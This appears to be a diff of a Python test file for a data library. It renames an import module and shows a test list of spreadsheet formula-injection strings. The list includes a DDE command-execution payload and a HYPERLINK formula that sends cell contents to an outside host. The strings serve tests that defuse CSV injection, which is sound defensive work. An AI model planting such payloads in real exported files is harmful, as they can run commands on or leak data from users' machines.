@@ -8,8 +8,8 @@ import pandas as pd
 import pytest
 
 import lvkit as lv
-from lvkit.data.csv_and_parquet import as_written, csv_text, neutralised
 from lvkit.data.side_files import read_benchmarks, read_families
+from lvkit.data.table_files import as_written, csv_text, neutralised
 
 FORMULAS = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://a.b/?"&A1,"x")', "=cmd|' /C calc'!A0",
